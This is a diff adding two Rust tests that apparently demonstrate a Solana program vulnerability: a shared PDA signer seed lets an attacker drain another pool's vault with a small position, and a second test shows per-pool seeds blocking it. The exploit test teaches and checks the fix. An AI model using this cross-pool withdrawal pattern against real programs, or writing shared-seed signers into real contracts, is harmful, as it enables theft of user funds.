@@ -0,0 +1,48 @@
+#[tokio::test]
+async fn test_cross_pool_drain_exploit() {
+    println!("\n=== EXPLOIT: Global PDA Signer ===\n");
+
+    let mallory = Keypair::new();
+    let pool_a = create_pool(10).await;
+    let pool_b = create_pool(1_000_000).await;
+
+    let position = deposit(&pool_a, &mallory, 10).await;
+    println!("1. Mallory holds a 10-token position in pool A");
+
+    println!("\n2. Mallory withdraws 10 from pool A, passing pool B's vault");
+    let result = withdraw(&pool_a, &position, pool_b.vault, &mallory, 10).await;
+
+    // Vulnerable: [b"signer"] owns both vaults
+    assert!(result.is_ok());
+    assert_eq!(get_vault_balance(&pool_b).await, 999_990);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ Pool B paid out for a pool A position");
+    println!("   ✗ One PDA signature authorized both vaults");
+}
+
+#[tokio::test]
+async fn test_per_pool_signer() {
+    println!("\n=== SECURITY: Per-Pool PDA Signer ===\n");
+
+    let mallory = Keypair::new();
+    let pool_a = create_pool(10).await;
+    let pool_b = create_pool(1_000_000).await;
+    let position = deposit(&pool_a, &mallory, 10).await;
+
+    println!("1. Mallory passes pool B's vault to a pool A withdrawal");
+    let result = withdraw(&pool_a, &position, pool_b.vault, &mallory, 10).await;
+
+    // Secure: vault authority is pool B's signer, not pool A's
+    assert!(result.is_err());
+    assert_eq!(get_vault_balance(&pool_b).await, 1_000_000);
+
+    println!("\n   CROSS-POOL WITHDRAWAL BLOCKED!");
+    println!("   ✓ Seeds include the pool key");
+
+    println!("\n2. Withdrawing from pool A's own vault");
+    let result = withdraw(&pool_a, &position, pool_a.vault, &mallory, 10).await;
+    assert!(result.is_ok());
+
+    println!("\n Each PDA authorizes exactly one pool");
+}